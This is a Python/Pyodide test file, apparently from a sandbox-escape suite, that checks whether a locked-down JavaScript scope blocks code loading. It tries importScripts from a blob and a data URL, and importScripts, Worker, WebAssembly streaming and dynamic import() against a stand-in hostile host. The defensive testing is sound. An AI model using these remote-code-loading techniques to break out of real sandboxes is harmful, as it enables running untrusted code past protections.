# promise: P2
# defence: policy
# control: policy seal lockdown globals
# importScripts from the network and from a blob, and a worker from the network. importScripts is synchronous.
from pyodide.ffi import to_js
from reach import attempt, js_function, linger, scopes

ADDRESS = "http://script.hostile.invalid/x.js"


def by_blob(scope):
    scope.hostile = 0
    scope.importScripts(scope.URL.createObjectURL(scope.Blob.new(to_js(["self.hostile = 42"]))))
    return scope.hostile == 42


def by_data(scope):
    scope.importScripts("data:text/javascript,self.hostileData=42")
    return scope.hostileData == 42


for by, scope in scopes():
    attempt(f"importScripts of a blob (by {by})", lambda: by_blob(scope))
    attempt(f"importScripts of a data address (by {by})", lambda: by_data(scope))
    attempt(f"importScripts of the network (by {by})", lambda: scope.importScripts(ADDRESS) or False)
    attempt(f"a worker of the network (by {by})", lambda: scope.Worker.new(ADDRESS) and False)
    attempt(f"wasm of the network (by {by})", lambda: scope.WebAssembly.compileStreaming(scope.fetch(ADDRESS)) and False)
# import() is syntax: only text that is evaluated can say it.
attempt("import() in text", lambda: js_function()("return import('data:text/javascript,1')")())
attempt("import() of the network", lambda: js_function()(f"return import('{ADDRESS}')")() and False)
linger()
print("held")
